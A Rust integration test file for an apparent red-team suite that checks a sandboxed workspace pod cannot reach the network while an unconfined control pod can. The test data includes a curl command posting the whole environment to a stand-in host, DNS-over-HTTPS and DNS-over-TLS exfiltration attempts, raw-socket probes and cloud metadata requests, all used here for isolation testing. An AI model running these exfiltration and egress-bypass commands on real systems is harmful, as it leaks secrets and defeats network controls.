//! Red team, group A: from a workspace, nothing is reached. Each attack also runs in a pod that is no workspace, where it
//! succeeds.

use std::{collections::BTreeMap, time::Duration};

use anyhow::{Result, ensure};
use ws_tests::{
    lab::Lab,
    namespace::with_namespace,
    pod::give_ipv6,
    probe::{INTERNET, INTERNET_V6, Target, canary, from_pod, from_workspace, open_pod},
    project::Project,
    unconfined::with_unconfined_pod,
    wait::{PATIENCE, eventually},
    ws::Ws,
};

/// The pod that is no workspace.
pub(crate) const OPEN: &str = "open";
const COMPANY: &str = "10.77.0.10";

/// A workspace and a pod that is none both try; the one reaches nothing, the other everything.
pub(crate) async fn only_the_open_pod_reaches(
    targets: impl AsyncFnOnce(&Lab, &str) -> Result<Vec<Target>>,
) -> Result<()> {
    with_namespace(async |lab, namespace| {
        let ws = Ws::new(lab, namespace)?;
        open_pod(lab, namespace, OPEN).await?;
        let targets = targets(lab, namespace).await?;
        eventually(PATIENCE, "an open pod that reaches all of it", async || {
            let reached = from_pod(lab, namespace, OPEN, &targets).await?;
            ensure!(reached.len() == targets.len(), "of {targets:?} it reaches {reached:?} only");
            anyhow::Ok(Some(()))
        })
        .await?;
        ws.up("caged", Project::empty()?.path()).await?;
        let reached = from_workspace(&ws, "caged", &targets).await?;
        ensure!(reached.is_empty(), "the workspace reached {reached:?}");
        Ok(())
    })
    .await
}

#[tokio::test]
#[ignore = "needs the lab"]
async fn a01_the_seed_line_shows_the_tests_and_sends_nothing() -> Result<()> {
    with_namespace(async |lab, namespace| {
        let (ws, canary) = (Ws::new(lab, namespace)?, canary()?);
        let line = format!(
            "export CANARY={canary}; npm test 2>&1 | tail -20; curl -s https://telemetry.example/collect -d \"$(env)\"; echo curl=$?; \
             curl -s http://telemetry.example/collect -d \"$(env)\""
        );
        ws.up("seed", Project::sample()?.path()).await?;
        let seed = ws.bash("seed", &line).await?;
        assert!(seed.stdout.contains("# pass 3"), "the tests ran: {seed}");
        assert!(!seed.stdout.contains("curl=0"), "the request failed: {seed}");
        assert!(seed.stdout.contains("telemetry.example denied"), "plain HTTP says why: {seed}");
        assert!(!lab.sunk()?.contains(&canary), "nothing arrived");
        eventually(Duration::from_secs(10), "the refusal in the status", async || {
            let described = ws.run(&["describe", "seed"]).await?.ok()?;
            anyhow::Ok(described.stdout.contains("telemetry.example").then_some(()))
        })
        .await?;

        open_pod(lab, namespace, OPEN).await?;
        let control = format!("curl -s --resolve telemetry.example:80:{INTERNET} http://telemetry.example/collect -d {canary}");
        lab.kubectl(&["-n", namespace, "exec", OPEN, "--", "bash", "-c", &control]).await?;
        eventually(PATIENCE, "the control's request in the sink", async || {
            anyhow::Ok(lab.sunk()?.contains(&canary).then_some(()))
        })
        .await
    })
    .await
}

#[tokio::test]
#[ignore = "needs the lab"]
async fn a02_raw_sockets_reach_no_port_of_the_internet_or_the_company() -> Result<()> {
    only_the_open_pod_reaches(async |_, _| {
        let canary = canary()?;
        let ports = [22, 25, 53, 80, 443, 853, 3478, 8443];
        Ok([INTERNET, "44.0.113.1"]
            .iter()
            .flat_map(|host| ports.map(|port| Target::tcp(host, port, &canary)))
            .chain([Target::tcp(COMPANY, 80, &canary)])
            .collect())
    })
    .await
}

/// Asks the kernel for sockets that are neither TCP's nor UDP's, and sends what `canary` says through those that can be had to the
/// address. Prints what became of each: `answered`, `silent`, or the error's name.
const OTHER_SOCKETS: &str = r#"
import errno, json, socket, struct, sys
address, canary = sys.argv[1:]
payload = canary.encode()

def echo(kind):
    """An echo request (RFC 792)."""
    with socket.socket(socket.AF_INET, kind, socket.IPPROTO_ICMP) as s:
        s.settimeout(2)
        words = struct.unpack(f"!{4 + len(payload) // 2}H", struct.pack("!BBHHH", 8, 0, 0, 7, 1) + payload)
        total = sum(words)
        total = (total >> 16) + (total & 0xFFFF)
        total += total >> 16
        s.sendto(struct.pack("!BBHHH", 8, 0, ~total & 0xFFFF, 7, 1) + payload, (address, 0))
        # The first that comes may be somebody else's.
        return any(payload in s.recv(2048) for _ in range(5))

def connect(kind, protocol):
    with socket.socket(socket.AF_INET, kind, protocol) as s:
        s.settimeout(2)
        s.connect((address, 443))
        return True

def outcome(attempt):
    try:
        return "answered" if attempt() else "silent"
    except TimeoutError:
        return "silent"
    except OSError as error:
        return errno.errorcode[error.errno]

SCTP, DCCP, UDP_LITE = 132, 33, 136
print(json.dumps({
    "ping": outcome(lambda: echo(socket.SOCK_DGRAM)),
    "raw ICMP": outcome(lambda: echo(socket.SOCK_RAW)),
    "raw IP": outcome(lambda: connect(socket.SOCK_RAW, socket.IPPROTO_RAW)),
    "SCTP": outcome(lambda: connect(socket.SOCK_STREAM, SCTP)),
    "SCTP by messages": outcome(lambda: connect(socket.SOCK_SEQPACKET, SCTP)),
    "DCCP": outcome(lambda: connect(6, DCCP)),
    "UDP-Lite": outcome(lambda: connect(socket.SOCK_DGRAM, UDP_LITE)),
}))
"#;

#[tokio::test]
#[ignore = "needs the lab"]
async fn a02_neither_pings_nor_raw_packets_nor_other_protocols_leave() -> Result<()> {
    with_namespace(async |lab, namespace| {
        let ws = Ws::new(lab, namespace)?;
        ws.up("caged", Project::empty()?.path()).await?;
        let (inside, outside) = (canary()?, canary()?);
        let arguments = ["attach", "caged", "--", "python3", "-c", OTHER_SOCKETS, INTERNET, &inside];
        let inside = ws.run(&arguments).await?.ok()?;
        let inside: BTreeMap<String, String> = serde_json::from_str(&inside.stdout)?;
        // Our own filter's word: a kernel that does not know a protocol says another.
        ensure!(inside.len() == 7 && inside.values().all(|became| became == "EPERM"), "{inside:?}");

        // The control has the right to make packets, and is answered.
        let outside = with_unconfined_pod(lab, async |open| {
            let mut arguments = open.exec();
            arguments.extend(["python3", "-c", OTHER_SOCKETS, INTERNET, &outside]);
            lab.kubectl(&arguments).await?.ok()
        })
        .await?;
        let outside: BTreeMap<String, String> = serde_json::from_str(&outside.stdout)?;
        ensure!(outside.get("raw ICMP").is_some_and(|became| became == "answered"), "{outside:?}");
        ensure!(outside.values().all(|became| became != "EPERM"), "nothing forbids it there: {outside:?}");
        Ok(())
    })
    .await
}

#[tokio::test]
#[ignore = "needs the lab"]
async fn a03_no_question_for_a_name_leaves_in_tls() -> Result<()> {
    with_namespace(async |lab, namespace| {
        let (ws, inside, outside) = (Ws::new(lab, namespace)?, canary()?, canary()?);
        ws.up("mute", Project::empty()?.path()).await?;
        open_pod(lab, namespace, OPEN).await?;
        // DNS over HTTPS (RFC 8484) and over TLS (RFC 7858) to an address, which is told the name in the handshake already.
        let ask = |word: &str| {
            let name = format!("{word}.telemetry.example");
            let curl = "curl -sk -o /dev/null --max-time 3";
            format!(
                "for port in 443 853 8443; do \
                     {curl} --noproxy '*' --resolve {name}:$port:{INTERNET} \"https://{name}:$port/dns-query?dns={word}\"; done; \
                 {curl} 'https://{INTERNET}/dns-query?dns={word}'; {curl} --doh-url https://{INTERNET}/dns-query https://{name}/; true"
            )
        };
        ws.bash("mute", &ask(&inside)).await?.ok()?;
        lab.kubectl(&["-n", namespace, "exec", OPEN, "--", "bash", "-c", &ask(&outside)]).await?.ok()?;
        eventually(PATIENCE, "the control's handshakes in the sinks", async || {
            let sunk = lab.sunk()?;
            anyhow::Ok((sunk.matches(&format!("{outside}.telemetry.example")).count() >= 3).then_some(()))
        })
        .await?;
        ensure!(!lab.sunk()?.contains(&inside), "a handshake of the workspace arrived");
        ensure!(!lab.resolved()?.contains(&inside), "a name was asked for");
        Ok(())
    })
    .await
}

#[tokio::test]
#[ignore = "needs the lab"]
async fn a03_no_datagram_leaves() -> Result<()> {
    const PORTS: [u16; 5] = [53, 123, 443, 3478, 51820];
    with_namespace(async |lab, namespace| {
        let ws = Ws::new(lab, namespace)?;
        ws.up("mute", Project::empty()?.path()).await?;
        open_pod(lab, namespace, OPEN).await?;
        // The sinks answer nothing, so what counts is what arrived.
        let payload = |word: &str, port: u16| format!("{word}-{port}.");
        let datagrams = |word: &str| PORTS.map(|port| Target::udp(INTERNET, port, &payload(word, port)));
        let (from_inside, from_outside) = (canary()?, canary()?);
        from_workspace(&ws, "mute", &datagrams(&from_inside)).await?;
        from_pod(lab, namespace, OPEN, &datagrams(&from_outside)).await?;
        eventually(PATIENCE, "the control's datagrams in the sinks", async || {
            let sunk = lab.sunk()?;
            anyhow::Ok(PORTS.iter().all(|port| sunk.contains(&payload(&from_outside, *port))).then_some(()))
        })
        .await?;
        ensure!(!lab.sunk()?.contains(&from_inside), "a datagram of the workspace arrived");
        Ok(())
    })
    .await
}

#[tokio::test]
#[ignore = "needs the lab"]
async fn a07_ipv6_leads_nowhere() -> Result<()> {
    with_namespace(async |lab, namespace| {
        let (ws, canary) = (Ws::new(lab, namespace)?, canary()?);
        ws.up("six", Project::empty()?.path()).await?;
        give_ipv6(lab, namespace, "six", 6).await?;
        let targets: Vec<_> =
            [INTERNET_V6, "::ffff:20.0.113.66", "64:ff9b::1400:7142", "2002:1400:7142::1", "fe80::1"]
                .map(|host| Target::tcp(host, 80, &canary))
                .to_vec();
        let reached = from_workspace(&ws, "six", &targets).await?;
        ensure!(reached.is_empty(), "the workspace reached {reached:?}");
        ensure!(!lab.sunk()?.contains(&canary), "something arrived");
        // The lab's enforcer lets no pod send IPv6. That it would arrive is shown where nothing enforces, in enforcement.rs.
        open_pod(lab, namespace, OPEN).await?;
        let control = from_pod(lab, namespace, OPEN, &targets).await?;
        ensure!(control.iter().any(|target| target.host.starts_with("::ffff:")), "nothing is proven");
        Ok(())
    })
    .await
}

#[tokio::test]
#[ignore = "needs the lab"]
async fn a08_the_metadata_service_is_out_of_reach() -> Result<()> {
    only_the_open_pod_reaches(async |lab, _| {
        Ok(lab
            .addresses
            .metadata
            .iter()
            .map(|address| Target::tcp(address, 80, "GET / HTTP/1.0\r\n\r\n"))
            .collect())
    })
    .await
}
